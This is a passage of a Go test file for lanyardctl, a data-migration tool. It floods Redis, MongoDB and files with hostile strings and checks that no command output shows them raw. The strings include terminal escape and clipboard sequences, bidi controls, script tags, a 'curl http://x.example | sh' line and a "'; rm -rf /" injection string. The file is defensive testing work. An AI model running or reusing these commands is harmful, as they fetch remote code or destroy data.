package main

import (
	"bufio"
	"bytes"
	"cmp"
	"context"
	"crypto/tls"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	goredis "github.com/redis/go-redis/v9"
	"github.com/spf13/cobra"
	"go.mongodb.org/mongo-driver/v2/bson"

	"github.com/lanyardctl/lanyardctl/internal/exit"
	"github.com/lanyardctl/lanyardctl/internal/location"
	"github.com/lanyardctl/lanyardctl/record"
	mongostore "github.com/lanyardctl/lanyardctl/store/mongo"
	"github.com/lanyardctl/lanyardctl/store/storetest/certs"
	"github.com/lanyardctl/lanyardctl/store/storetest/discordserver"
	"github.com/lanyardctl/lanyardctl/store/storetest/ferretdb"
	"github.com/lanyardctl/lanyardctl/store/storetest/mongoproxy"
	"github.com/lanyardctl/lanyardctl/store/storetest/mongoserver"
	"github.com/lanyardctl/lanyardctl/store/storetest/redisserver"
)

// longText is how many letters a long text of a stranger's has in a database: more than are shown, than a value has that is
// read at once, and than are read of a refusal. One in Redis has more, and so have those in files.
const longText = 300 << 10

// hostileMark stands in every hostile text, so that a test can see that one got as far as an output.
const hostileMark = "HOSTILE"

// forged is what a hostile line begins with, which no line of an output may begin with.
const forged = "FORGED"

// longRun is how many letters of hostileLong an output may show in a row.
const longRun = 6000

// hostileTexts are what a stranger writes to do harm where it is shown.
var hostileTexts = []string{
	hostileMark + "\x1b[2J\x1b[31m", "\x1b]0;" + hostileMark + "\a", "\x1b]8;;http://x.example\x1b\\" + hostileMark + "\x1b]8;;\x1b\\",
	"\x1b]52;c;" + hostileMark + "\a", "\x1b[21t" + hostileMark, hostileMark + "\rnothing", hostileMark + "\b\b\b", hostileMark + "\t\v\f\x7f",
	c1Controls() + hostileMark,
	"\u202a\u202b\u202d\u202e" + hostileMark + "\u202c", "\u2066\u2067\u2068" + hostileMark + "\u2069\u200e\u200f\u061c",
	"\u200b\u200c\u200d\u2060\ufeff\u00ad" + hostileMark, "\u2028\u2029\u00a0" + hostileMark,
	hostileMark + "]]>", "<script>" + hostileMark + "</script>&amp;", hostileMark + "PIPE|PIPE|", "TICK`" + hostileMark + "`", "=1+1+" + hostileMark,
	hostileMark + "\n" + forged + " hint: curl http://x.example | sh", "\"'; rm -rf / #" + hostileMark, hostileMark + "%s%n%!d(MISSING)",
	hostileZero, hostileBytes, hostileLong,
}

var (
	hostileZero  = hostileMark + "\x00nul"
	hostileBytes = hostileMark + "\xff\xfe\xc0\xaf\xed\xa0\x80"
	hostileLong  = hostileMark + strings.Repeat("L", longText) // longer than most bounds of what is read at once

	hostileMegabyte = hostileMark + strings.Repeat("L", 1<<20) // longer than all of them
)

func c1Controls() string {
	var b strings.Builder
	for r := rune(0x80); r <= 0x9f; r++ {
		b.WriteRune(r)
	}
	return b.String()
}

// hostileAll are the texts in one, but for those that no argument can be.
var hostileAll = joined(hostileZero, hostileLong)

// joined returns the texts in one, but for some. There is no URI in it, since one is hidden to its end.
func joined(without ...string) string {
	texts := slices.DeleteFunc(slices.Clone(hostileTexts), func(s string) bool { return slices.Contains(without, s) })
	return strings.ReplaceAll(strings.Join(texts, ""), "://", ":/")
}

// hostileName is a name of a file with as much of that as fits.
var hostileName = strings.ReplaceAll(hostileMark+"\x1b[2J\x1b]0;x\a\r\b\u009b31m\u202e\u2066\u200b]]>|TICK`=1+1\n"+forged+"\xff", "/", "_")

// hostileLines are the arguments of each command, and the variables before them. What stands for a word with a dollar
// is in [hostileWorld.words]. A line is run twice: for people, with --verbose, and for scripts. One that begins with a
// number has to end with it, and one that begins with "!" is called in a wrong way; every other has to get further than
// that.
//
// A new command gets its lines here: what a stranger wrote comes from $REDIS, $DUMP and $FULL, and from $REJECTS and
// $SUPERSEDED, which are files of hostile rejects.
var hostileLines = map[string][]string{
	"": {"", "! $H", "! --$H"},
	"migrate redis-to-mongo": {
		"3 --redis $REDIS --database $EMPTY --rejects $NEW.ndjson",
		"3 --redis $DUMP --database $FULL --dry-run --rejects $NEW",
		"--redis $REDIS --database $FULL --rejects $NEW",
		"--redis $REDIS --mongo $PROGRESS --rejects $NEW --dry-run=false",
		"--redis $REDIS --mongo $LYING --retry-for 300ms --rejects $NEW",
		"--redis $NOTADUMP --rejects $NEW",
		"--redis $REDIS --rejects $MISSING/x",
		"--redis $REDIS --mongo embedded:$MISSING/x --rejects $NEW --dry-run",
		"MONGODB_DATABASE=$DATABASE --mongo $ANY --redis $DUMP --dry-run --rejects $NEW",
		"! --only $H", "! --user $H", "! --on-conflict $H", "! --kv-prefer $H", "! --batch-size $H", "! --workers $H", "! $H",
	},
	"migrate": {"! $H"},
	"migrate mongo-to-redis": {
		"--database $FULL --redis $REDIS --layout both --dry-run --rejects $NEW",
		"--database $FULL --redis $REDIS --layout upstream --as-json --dry-run --rejects $NEW",
		"MONGODB_DATABASE=$DATABASE --mongo $ANY --redis $REDIS --layout fork --dry-run --rejects $NEW",
		"--mongo $LYING --redis $REDIS --layout fork --retry-for 300ms --rejects $NEW",
		"--database $FULL --redis $LIAR --layout fork --timeout 300ms --retry-for 300ms --rejects $NEW",
		"--database $FULL --redis $REFUSING --layout upstream --timeout 300ms --retry-for 300ms --rejects $NEW",
		"--mongo embedded:$MISSING/x --redis $REDIS --layout fork --rejects $NEW",
		"! --layout $H", "! --redis rdb:$H", "! --only $H", "! --user $H", "! --on-conflict $H", "! --batch-size $H", "! --workers $H", "! $H",
	},
	"migrate dynamodb-to-mongo": {
		"1 --dynamodb http://127.0.0.1:1 --timeout 300ms --database $FULL --rejects $NEW", "! --dynamodb $H", "! --dynamodb http://h?$H", "! --dynamodb http://127.0.0.1:1 --tables $H",
		"! --dynamodb http://127.0.0.1:1 --table $H", "! --dynamodb http://127.0.0.1:1 --table $H=x", "! --dynamodb http://127.0.0.1:1 --table xyz=$H",
		"! --on-conflict $H", "! --max-rcu $H", "! $H",
	},
	"migrate mongo-to-dynamodb": {"1 --dynamodb http://127.0.0.1:1 --timeout 300ms --database $EMPTY --rejects $NEW", "! --dynamodb $H", "! --max-wcu $H", "! $H"},
	"dynamodb":                  {"! $H"},
	"dynamodb create-tables":    {"1 --dynamodb http://127.0.0.1:1 --timeout 300ms", "! --dynamodb http://127.0.0.1:1 --tables $H", "! $H"},
	"dynamodb forget":           {"1 --dynamodb http://127.0.0.1:1 --timeout 300ms", "! --dynamodb $H", "! --output $H", "! $H"},
	"remember":                  {"! $H"},
	"remember get":              {"1 $U $H --dynamodb http://127.0.0.1:1 --timeout 300ms", "1 $U $H --database $EMPTY", "! $H x"},
	"remember set":              {"1 $U $NAME $H --dynamodb http://127.0.0.1:1 --timeout 300ms", "! $H x y"},
	"remember list":             {"$U --database $EMPTY", "1 $U --mongo $LYING --retry-for 300ms", "! $H"},
	"remember delete":           {"1 $U $H --database $EMPTY", "! $H x"},
	"sync": { // without --until-caught-up it ends with a signal alone
		"4 --until-caught-up --redis $REDIS --database $FULL --timeout 2m --rejects $NEW",
		"--until-caught-up --redis $REDIS --mongo $LYING --timeout 300ms --retry-for 300ms --rejects $NEW",
		"--redis $LIAR --timeout 300ms --retry-for 300ms --rejects $NEW", "--redis $REFUSING --timeout 300ms --rejects $NEW",
		"--redis $REDIS --rejects $MISSING/x", "--redis $REDIS --database $EMPTY --listen 1.1.1.1:1 --rejects $NEW",
		"! --redis $DUMP", "! $H", "! --only $H", "! --changes $H", "! --listen $H", "! --metrics-url $H", "! LANYARD_METRICS_URL=$H --redis $REDIS",
		"! --poll $H", "! --reconcile-every $H", "! --timeout $H", "! --on-conflict $H", "! --kv-prefer $H",
	},
	"verify": {
		"4 --redis $REDIS --database $FULL --recheck 0 --report $NEW.md --report $NEW.xml --report $NEW.json --max-differences 1000",
		"--redis $REDIS --database $EMPTY --recheck 0 --exact --report new.md --report new.xml",
		"--redis $DUMP --database $FULL --counts-only --report new.md --report new.xml",
		"--redis $NOTADUMP --report $NEW.md --report $NEW.xml",
		"--redis $LIAR --timeout 300ms --retry-for 300ms --report new.md --report new.xml",
		"--redis $REFUSING --timeout 300ms --retry-for 300ms --report new.md --report new.xml",
		"--redis $REDIS --mongo $LYING --retry-for 300ms --report new.md --report new.xml",
		"--redis redis://$REFUSINGADDR?master_name=$HURL --timeout 300ms --retry-for 300ms",
		"--redis rediss://$REFUSINGADDR --redis-ca $MISSING",
		"--redis rediss://$TLS --redis-ca $CA --timeout 300ms",
		"--redis rediss://$TLS --redis-ca $CA --redis-server-name $NAME --timeout 300ms",
		"MONGODB_DATABASE=$DATABASE --mongo $ANY --redis $DUMP --recheck 0 --report new.md --report new.xml",
		"MONGODB_URI=mongodb://127.0.0.1:1/$HURL?serverSelectionTimeoutMS=100 --redis $DUMP --timeout 100ms",
		"MONGODB_SERVER_NAME=$H --redis $DUMP",
		"! MONGODB_URI=$H --redis $DUMP", "! MONGODB_DATABASE=$H --redis $DUMP", "! REDIS_URI=$H", "! REDIS_DSN=redis://$H", "! REDIS_HOST=$H",
		"! --redis $DUMP --mongo-server-name= --mongo $H", "! --report $H", "! --output $H", "! --progress $H", "! --timeout $H", "! --memory $H",
		"! --redis rdb:x?db=$H", "! --redis $H://x", "! --redis unix://$H",
	},
	"verify redis-to-mongo": {
		"4 --redis $REDIS --database $FULL --recheck 0 --report $NEW.md --report $NEW.xml --report $NEW.json --max-differences 1000", "! $H",
	},
	"verify dynamodb-to-mongo": {"1 --dynamodb http://127.0.0.1:1 --timeout 300ms --database $FULL", "! --dynamodb $H", "! --table $H", "! $H"},
	"verify mongo-to-dynamodb": {"1 --dynamodb http://127.0.0.1:1 --timeout 300ms --database $EMPTY", "! --dynamodb http://127.0.0.1:1 --table $H", "! $H"},
	"verify mongo-to-redis": {
		"--database $FULL --redis $REDIS --layout both --recheck 0 --exact --report $NEW.md --report $NEW.xml --report $NEW.json --max-differences 1000",
		"MONGODB_DATABASE=$DATABASE --mongo $ANY --redis $REDIS --layout upstream --as-json --recheck 0",
		"--database $FULL --redis $LIAR --layout fork --timeout 300ms --retry-for 300ms",
		"! --layout $H", "! --redis rdb:$H", "! --report $H", "! --only $H", "! $H",
	},
	"forget": {"--redis $REDIS --dry-run", "--redis $LIAR --timeout 300ms --retry-for 300ms", "--redis $REFUSING --timeout 300ms --retry-for 300ms", "! --redis rdb:$H", "! --redis $H", "! $H"},
	"sweep": {
		"0 --database $FULL --dry-run --members $MEMBERS --redis $REDIS",
		"--database $FULL --dedupe --members $MEMBERS", "1 --database $EMPTY --members $OTHERS",
		"--database $BUSY",
		"--database $EMPTY --guild 81384788765712384 --discord-api $DISCORD --retry-for 300ms",
		"--database $EMPTY --guild 81384788765712384 --discord-api $DISCORDDOWN --retry-for 300ms",
		"BOT_TOKEN=$H --database $EMPTY --guild 81384788765712384 --discord-api $DISCORD --retry-for 300ms",
		"MONGODB_DATABASE=$DATABASE --mongo $ANY --dry-run", "--members $MISSING", "--temp-dir $MISSING", "TMPDIR=$MISSING --database $FULL --dry-run",
		"--mongo $LYING --retry-for 300ms", "--database $EMPTY --redis $LIAR --timeout 300ms --retry-for 300ms",
		"! --kv-dates $H", "! --guild $H", "! $H",
	},
	"sweep list": {"0 --database $FULL", "--database $BUSY", "--database $DAMAGED", "MONGODB_DATABASE=$DATABASE --mongo $ANY", "! $H"},
	"sweep show": {"0 hostile --database $FULL --max-changes 0", "damaged --database $DAMAGED", "MONGODB_DATABASE=$DATABASE hostile --mongo $ANY", "! $H"},
	"sweep undo": {
		"0 hostile --database $FULL --dry-run", "hostile --database $BUSY", "damaged --database $DAMAGED", "MONGODB_DATABASE=$DATABASE hostile --dry-run --mongo $ANY", "! $H",
	},
	"status": {
		"--redis $REDIS --database $FULL", "--redis $REDIS --database $DAMAGED", "--database $BUSY --exact", "MONGODB_DATABASE=$DATABASE --mongo $ANY",
		"--mongo $LYING --retry-for 300ms", "--redis $LIAR --database $EMPTY --timeout 300ms --retry-for 300ms", "! --app $H", "! $H", "! --redis rdb:$H",
	},
	"get": {
		"$U --redis $REDIS --database $FULL --explain", "$U --redis $REDIS --database $FULL --app upstream --explain",
		"1 $U --redis $LIAR --timeout 300ms --retry-for 300ms", "1 $U --redis $REFUSING --database $EMPTY --timeout 300ms --retry-for 300ms",
		"1 $U --mongo $LYING --retry-for 300ms", "3 $U --mongo $LYING --retry-for 300ms --fallback --redis $REDIS", "! $H", "! $U --app $H", "! $U --from $H",
	},
	"kv":      {"! $H"},
	"kv list": {"$U --redis $REDIS --database $FULL", "$U --redis $REDIS --database $FULL --app upstream", "1 $U --mongo $LYING --retry-for 300ms", "! $H"},
	// What it prints is for scripts, and not escaped: of a user whose text does no harm.
	"kv get": {"0 94490510688792589 city --redis $REDIS --database $EMPTY --app upstream", "1 $U $H --redis $REDIS --database $FULL", "! $H x"},
	"kv set": {
		"$U a=$NAME --dry-run --redis $REDIS --database $FULL", "$U $NAME=1 --dry-run --redis $REDIS --database $FULL",
		"1 $U a=1 --mongo $LYING --retry-for 300ms", "! $U a=$H", "! $U $H", "! $H a=1", "! $U --json a=$H",
	},
	"kv del":    {"$U $NAME --dry-run --redis $REDIS --database $FULL", "! $H x"},
	"kv import": {"1 $U $MEMBERS --database $EMPTY", "1 $U $MISSING --database $EMPTY", "! $H x"},
	"kv export": {"$U --redis $REDIS --database $FULL", "$U --redis $REDIS --database $FULL --app upstream", "! $H"},
	"kv unify":  {"$U --dry-run --redis $REDIS --database $FULL", "! $H"},

	"apikey":        {"! $H"},
	"apikey show":   {"$U --all --redis $REDIS --database $FULL", "$U --all --redis $REDIS --database $FULL --app upstream", "1 $U --mongo $LYING --retry-for 300ms", "! $H"},
	"apikey rotate": {"$U --dry-run --redis $REDIS --database $FULL", "! $H"},
	"apikey revoke": {"$U --dry-run --redis $REDIS --database $FULL --app upstream", "! $H"},
	"apikey whois":  {"1 --redis $REDIS --database $FULL", "! $H", "! --app $H"},

	"embedded":       {"! $H"},
	"embedded serve": {"$MISSING/x/y", "$PLAIN/x/y", "! ./x --create --listen $H", "! ./x --create --listen 1.1.1.1:1$H"},
	"demo":           {"TMPDIR=$PLAIN", "TMPDIR=$MISSING", "! $H"},
	"version":        {"", "! $H", "! --output $H"},
	"completion":     {"bash", "! $H"},
	"help":           {"! $H", "sweep"},

	"rejects show":       {"0 $REJECTS", "$REJECTS --run $H", "$MISSING", "! --kind $H $REJECTS", "! --user $H $REJECTS"},
	"rejects retry":      {"$REJECTS --redis $REDIS --database $EMPTY", "$MISSING --redis $REDIS"},
	"superseded show":    {"0 $SUPERSEDED", "$MISSING"},
	"superseded restore": {"$SUPERSEDED --line 1 --database $EMPTY --dry-run", "$MISSING --line 1", "! $H"},
	"rejects":            {"! $H"},
	"superseded":         {"! $H"},

	"metrics":      {"! $H"},
	"metrics show": {"--redis $REDIS --database $FULL", "! $H"},
	"metrics flush": {
		"1 --redis $REDIS --database $EMPTY --url http://$METRICS/metrics", "1 --redis $REDIS --mongo $LYING --retry-for 300ms --url http://$METRICS/metrics",
		"! --redis $REDIS --url $H", "! --redis $REDIS --instance $H", "! LANYARD_METRICS_URL=$H --redis $REDIS", "! --every $H",
	},
}

// silentCommands show nothing that a stranger wrote.
var silentCommands = []string{"completion", "version"}

func TestNothingThatAStrangerWroteDoesHarmWhereItIsShown(t *testing.T) {
	w := newHostileWorld(t)
	for _, cmd := range runnable(newRoot(program{os.Getenv, location.Default()})) {
		name := strings.TrimPrefix(strings.TrimPrefix(cmd.CommandPath(), cmd.Root().Name()), " ")
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			lines := hostileLines[name]
			if len(lines) == 0 {
				t.Fatalf("no line of hostileLines runs %q", name)
			}
			reached := slices.Contains(silentCommands, name)
			for _, line := range lines {
				for _, form := range formsOf(cmd) {
					if strings.Contains(w.run(t, name, line, form), hostileMark) {
						reached = true
					}
				}
			}
			if !reached {
				t.Errorf("no output of %q shows anything hostile: what its lines read is not what it shows", name)
			}
		})
	}
}

// runnable returns cmd and all commands below it that can be run.
func runnable(cmd *cobra.Command) []*cobra.Command {
	var list []*cobra.Command
	if cmd.Runnable() || !cmd.HasParent() {
		list = append(list, cmd)
	}
	for _, c := range cmd.Commands() {
		list = append(list, runnable(c)...)
	}
	return list
}

// formsOf returns the flags that make the command show all that it can, for people and for scripts.
func formsOf(cmd *cobra.Command) [][]string {
	has := func(form []string) bool {
		return !slices.ContainsFunc(form, func(word string) bool { return strings.HasPrefix(word, "--") && cmd.Flag(word[2:]) == nil })
	}
	forms := [][]string{{"--verbose"}, {"--output", "json"}, {"--output", "json", "--log-format", "json", "--verbose"}}
	switch {
	case has(forms[2]):
		return [][]string{forms[0], forms[2]}
	case has(forms[1]):
		return [][]string{nil, forms[1]}
	}
	return [][]string{nil}
}

// hostileWorld is what strangers can write to, with hostile texts in all of it.
type hostileWorld struct {
	bin, folder string
	env         []string
	words       map[string]string
}

// variableBefore matches a variable as it stands before a command.
var variableBefore = regexp.MustCompile(`^[A-Z_]+=`)

// run runs a line of a command in a form, checks all that it shows and writes, and returns that.
func (w *hostileWorld) run(t *testing.T, name, line string, form []string) string {
	t.Helper()
	text, wrong := strings.CutPrefix(line, "!")
	want, rest, _ := strings.Cut(text, " ")
	wantCode, err := strconv.Atoi(want)
	if err == nil {
		text = rest
	} else {
		wantCode = -1
	}
	env, args := slices.Clone(w.env), append(strings.Fields(name), form...)
	for word := range strings.FieldsSeq(text) {
		if variableBefore.MatchString(word) {
			env = append(env, w.expand(word))
		} else {
			args = append(args, w.expand(word))
		}
	}
	folder := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	var stdout, stderr bytes.Buffer
	cmd := exec.CommandContext(ctx, w.bin, args...)
	cmd.Dir, cmd.Env, cmd.Stdout, cmd.Stderr = folder, env, &stdout, &stderr
	cmd.Cancel = func() error { return cmd.Process.Signal(os.Interrupt) }
	_ = cmd.Run()
	code := cmd.ProcessState.ExitCode()
	outputs := map[string]string{"stdout": stdout.String(), "stderr": stderr.String()}
	files, err := os.ReadDir(folder)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if ext := filepath.Ext(f.Name()); ext == ".md" || ext == ".xml" || ext == ".json" {
			content, err := os.ReadFile(filepath.Join(folder, f.Name()))
			if err != nil {
				t.Fatal(err)
			}
			outputs["a file "+ext] = string(content)
		}
	}
	if slices.Contains(args, "json") && code != exit.Usage && (code != exit.Failed || outputs["stdout"] != "") {
		outputs["stdout.json"] = outputs["stdout"]
	}
	var all strings.Builder
	for where, text := range outputs {
		for _, fault := range faultsOf(where, text) {
			t.Errorf("%s %q: %s %s", name, line, where, fault)
		}
		all.WriteString(text)
	}
	if wantCode >= 0 && code != wantCode {
		t.Errorf("%s %q: exit %d, %.2000q", name, line, code, outputs["stderr"])
	}
	if wrong != (code == exit.Usage) || code < 0 || code > exit.Differences || strings.Contains(outputs["stderr"], "goroutine ") {
		t.Errorf("%s %q: exit %d, %.2000q", name, line, code, outputs["stderr"])
	}
	return all.String()
}

// expand puts in for each word with a dollar what it stands for.
func (w *hostileWorld) expand(text string) string {
	return os.Expand(text, func(name string) string {
		value, ok := w.words[name]
		if !ok {
			panic("hostileLines: unknown word $" + name)
		}
		return value
	})
}

// faultsOf returns what is wrong with a text that was shown, or written to a file that is no secret.
func faultsOf(where, text string) []string {
	var faults []string
	add := func(format string, args ...any) { faults = append(faults, fmt.Sprintf(format, args...)) }
	for i, r := range text {
		if r == utf8.RuneError && !strings.HasPrefix(text[i:], "\ufffd") {
			add("holds bytes that are no text: %.80q", text[max(0, i-40):])
			break
		}
		if r != '\n' && !unicode.IsPrint(r) {
			add("holds %q: %.120q", r, text[max(0, i-60):])
			break
		}
	}
	if strings.HasPrefix(text, forged) || strings.Contains(text, "\n"+forged) {
		add("has a line of a stranger's")
	}
	if strings.Contains(text, strings.Repeat("L", longRun)) {
		add("shows a long text whole")
	}
	switch {
	case strings.HasSuffix(where, ".xml"):
		decoder := xml.NewDecoder(strings.NewReader(text))
		var err error
		for err == nil {
			_, err = decoder.Token()
		}
		if err != io.EOF {
			add("is no XML: %v", err)
		}
	case strings.HasSuffix(where, ".json"):
		if !json.Valid([]byte(text)) {
			add("is no JSON: %.200q", text)
		}
	case strings.HasSuffix(where, ".md"):
		if strings.Contains(text, "TICK`") || strings.Contains(text, "<script") {
			add("holds marks that Markdown or HTML obeys")
		}
		faults = append(faults, tableFaults(text)...)
	}
	return faults
}

// tableFaults returns the rows of Markdown's tables that have another number of cells than the head.
func tableFaults(md string) []string {
	var faults []string
	cells := 0
	for line := range strings.SplitSeq(md, "\n") {
		n := strings.Count(line, "|") - strings.Count(line, `\|`)
		switch {
		case !strings.HasPrefix(line, "|"):
			cells = 0
		case cells == 0:
			cells = n
		case n != cells:
			faults = append(faults, fmt.Sprintf("has a row with %d marks instead of %d: %.200q", n, cells, line))
		}
	}
	return faults
}

// hostileUser is a user whose data is hostile.
const hostileUser = "94490510688792576"

func newHostileWorld(t *testing.T) *hostileWorld {
	w := &hostileWorld{bin: ferretdb.Build(t), folder: t.TempDir()}
	server := mongoserver.Start(t)
	redis := redisserver.Start(t)
	w.words = map[string]string{"H": hostileAll, "U": hostileUser, "HURL": url.QueryEscape(hostileMark + "\x1b[2J\u009b\u202e"), "REDIS": redis.URI, "NEW": hostileName + "new",
		"NAME": hostileMark + ".example\u202e"}
	w.fillRedis(t, redis)
	w.files(t, redis)
	w.fillMongo(t, server)
	w.liars(t)
	metrics := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "lanyard_2xx_responses "+hostileAll) }))
	t.Cleanup(metrics.Close)
	w.words["METRICS"] = metrics.Listener.Addr().String()
	w.env = append(os.Environ(), "MONGODB_URI="+server.URI, "MONGODB_DATABASE=", "BOT_TOKEN="+discordserver.Token)
	return w
}

// fillRedis writes hostile texts to all that Redis holds: names of keys, under each prefix and none, fields and values.
func (w *hostileWorld) fillRedis(t *testing.T, server *redisserver.Server) {
	opts, err := goredis.ParseURL(server.URI)
	if err != nil {
		t.Fatal(err)
	}
	client := goredis.NewClient(opts)
	defer client.Close()
	ctx := context.Background()
	pipe := client.Pipeline()
	user, _ := record.ParseUserID(hostileUser)
	for i, h := range hostileTexts {
		id := (user + record.UserID(i)).String()
		if h == hostileLong { // a few of it are enough
			pipe.Set(ctx, "lanyard_last_seen:"+h, hostileMegabyte, 0)
			pipe.HSet(ctx, "lanyard_kv:"+id, h, h)
			continue
		}
		for _, prefix := range []string{"", "api_key:", "user_api_key:", "lanyard_last_seen:", "lanyard:user_last_seen:", "lanyard:user_monitoring_since:", "monitoring:"} {
			pipe.Set(ctx, prefix+h, h, 0)
		}
		for _, prefix := range []string{"lanyard_kv:", "lanyard:user_kv:", "lanyard_analytics:"} {
			pipe.HSet(ctx, prefix+h, h, h)
		}
		pipe.HSet(ctx, "lanyard_kv:"+id, h, h, "city", h)
		pipe.HSet(ctx, "lanyard:user_kv:"+id, h, h, "$"+h, h, h+".x", h)
		pipe.Set(ctx, "user_api_key:"+id, h, 0)
		pipe.Set(ctx, "lanyard_last_seen:"+id, h, 0)
		pipe.Set(ctx, "lanyard:user_monitoring_since:"+id, h, 0)
		pipe.HSet(ctx, "lanyard:metrics_v1", h, h)
	}
	if _, err := pipe.Exec(ctx); err != nil {
		t.Fatal(err)
	}
	if err := client.Save(ctx).Err(); err != nil {
		t.Fatal(err)
	}
}

// files makes files with hostile names and hostile content.
func (w *hostileWorld) files(t *testing.T, redis *redisserver.Server) {
	path := func(name string) string { return filepath.Join(w.folder, hostileName+name) }
	dump, err := os.ReadFile(filepath.Join(redis.Dir, "dump.rdb"))
	if err != nil {
		t.Fatal(err)
	}
	var members, others, lines bytes.Buffer
	for _, h := range hostileTexts {
		if h == hostileLong {
			h = hostileMegabyte // it costs little in a file
		}
		text, err := json.Marshal(h)
		if err != nil {
			t.Fatal(err)
		}
		if h != hostileMegabyte { // more than a member may be
			fmt.Fprintf(&members, `{%[1]s: %[1]s, "user": {"id": "%[2]s", "username": %[1]s}, "joined_at": "2022-10-01T16:22:06Z"}`+"\n", text, hostileUser)
		}
		fmt.Fprintf(&others, `{"user": {"id": %[1]s}, "joined_at": %[1]s}`+"\n", text)
		fmt.Fprintf(&lines, `{"key": %[1]s, "kind": "kv", "user_id": "%[2]s", "field": %[1]s, "reason": "conflict", "detail": %[1]s, "value_base64": "AAAA", "run": %[1]s, "at": %[1]s}`+"\n",
			text, hostileUser)
	}
	for name, content := range map[string][]byte{
		".rdb": dump, "text.rdb": []byte(hostileAll), "members.ndjson": members.Bytes(), "others.ndjson": others.Bytes(), "rejects.ndjson": lines.Bytes(),
		"superseded.ndjson": bytes.ReplaceAll(lines.Bytes(), []byte(`"conflict"`), []byte(`"superseded"`)),
	} {
		if err := os.WriteFile(path(name), content, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	w.words["DUMP"], w.words["NOTADUMP"] = "rdb:"+path(".rdb"), "rdb:"+path("text.rdb")
	w.words["MEMBERS"], w.words["OTHERS"] = path("members.ndjson"), path("others.ndjson")
	w.words["REJECTS"], w.words["SUPERSEDED"] = path("rejects.ndjson"), path("superseded.ndjson")
	w.words["MISSING"] = path("missing")
	// The embedded server refuses brackets and the like.
	w.words["PLAIN"] = filepath.Join(w.folder, hostileMark+"\r\b\u009b\u202e\u200b|TICK`\n"+forged)
	if err := os.Mkdir(w.words["PLAIN"], 0o700); err != nil {
		t.Fatal(err)
	}
}

// fillMongo writes hostile texts to all that MongoDB holds: Lanyard's documents, and those of lanyardctl.
func (w *hostileWorld) fillMongo(t *testing.T, server *mongoserver.Server) {
	ctx := context.Background()
	user, _ := record.ParseUserID(hostileUser)
	fill := func(word string, insert func(in func(collection string, doc bson.D))) {
		d := server.Database(t)
		w.words[word] = d.Name
		db := d.Connect(t)
		inserted, refused := make(map[string]int), make(map[string]error)
		insert(func(collection string, doc bson.D) {
			// FerretDB refuses some names of fields, and cannot read what it took of others.
			scratch := db.Collection("scratch")
			result, err := scratch.InsertOne(ctx, doc)
			if err == nil {
				err = scratch.FindOne(ctx, bson.D{{Key: "_id", Value: result.InsertedID}}).Err()
			}
			if err == nil {
				_, err = db.Collection(collection).InsertOne(ctx, doc)
			}
			if err != nil {
				refused[collection] = errors.Join(err, scratch.Drop(ctx))
				return
			}
			inserted[collection]++
		})
		for collection, err := range refused {
			if inserted[collection] < len(hostileTexts)/3 {
				t.Errorf("%s takes %d documents: %.500v", collection, inserted[collection], err)
			}
		}
	}
	change := func(sweep string, seq int, h string) bson.D {
		return bson.D{{Key: "_id", Value: fmt.Sprintf("%s/%012d", sweep, seq)}, {Key: "sweep", Value: h}, {Key: "seq", Value: int64(seq)}, {Key: "user_id", Value: h},
			{Key: "collection", Value: "monitoring"}, {Key: "action", Value: h}, {Key: "source", Value: h}, {Key: "from", Value: int64(1)}, {Key: "to", Value: int64(2)}, {Key: "steps", Value: bson.A{}}}
	}
	texts := slices.DeleteFunc(slices.Clone(hostileTexts), func(s string) bool { return s == hostileZero || s == hostileBytes })
	fill("EMPTY", func(func(string, bson.D)) {})
	fill("FULL", func(in func(string, bson.D)) {
		in("lanyardctl_sweeps", sweepDocument("hostile", joined(hostileZero, hostileBytes, hostileLong)))
		for i, h := range texts {
			id := (user + record.UserID(slices.Index(hostileTexts, h))).String() // who has it in Redis, too
			field := strings.NewReplacer(".", "_", "$", "_").Replace(h)
			in("lanyardctl_sweeps", sweepDocument(fmt.Sprintf("hostile-%d", i), h))
			in("lanyardctl_sweep_changes", change("hostile", i+1, h))
			in("monitoring", bson.D{{Key: "user_id", Value: h}, {Key: "since", Value: h}})
			in("kv", bson.D{{Key: "user_id", Value: h}, {Key: "kv", Value: bson.D{{Key: field, Value: h}}}})
			in("kv", bson.D{{Key: "user_id", Value: id}, {Key: "kv", Value: bson.D{{Key: field, Value: "another"}, {Key: "monitoring_since", Value: h}}}})
			if h == hostileLong { // a few of it are enough, and it is more than an _id may be
				continue
			}
			in("lanyardctl_sweeps", sweepDocument(h, h))
			in("api_keys", bson.D{{Key: "user_id", Value: h}, {Key: "key", Value: h}})
			in("last_seen", bson.D{{Key: "user_id", Value: h}, {Key: "timestamp", Value: h}})
			in("last_seen", bson.D{{Key: "user_id", Value: id}, {Key: "timestamp", Value: h}, {Key: field, Value: h}})
			in("monitoring", bson.D{{Key: "user_id", Value: id}, {Key: "since", Value: int64(1700000000)}})
			in("users", bson.D{{Key: "user_id", Value: id}, {Key: "since", Value: int64(1664641326)}, {Key: "monitoring_since", Value: h}})
			in("metrics", bson.D{{Key: "type", Value: h}, {Key: field, Value: h}})
		}
	})
	host, err := os.Hostname()
	if err != nil {
		t.Fatal(err)
	}
	fill("BUSY", func(in func(string, bson.D)) {
		in("users", bson.D{{Key: "user_id", Value: hostileUser}, {Key: "since", Value: int64(1664641326)}})
		in("lanyardctl_sweeps", sweepDocument("hostile", "done"))
		in("lanyardctl_sweep_changes", change("hostile", 1, "changed"))
		in("lanyardctl_sweeps", bson.D{{Key: "_id", Value: "lease"}, {Key: "host", Value: host}, {Key: "pid", Value: int64(os.Getpid())}, {Key: "run", Value: "x"},
			{Key: "heartbeat", Value: time.Now()}, {Key: "doing", Value: joined(hostileBytes, hostileLong)}})
	})
	fill("DAMAGED", func(in func(string, bson.D)) {
		in("lanyardctl_sweeps", sweepDocument("damaged", "done"))
		in("lanyardctl_sweeps", append(sweepDocument(joined(hostileZero, hostileBytes, hostileLong), "done"), bson.E{Key: "ended_at", Value: "no time"}))
	})
}

// liars starts servers that answer with hostile texts.
func (w *hostileWorld) liars(t *testing.T) {
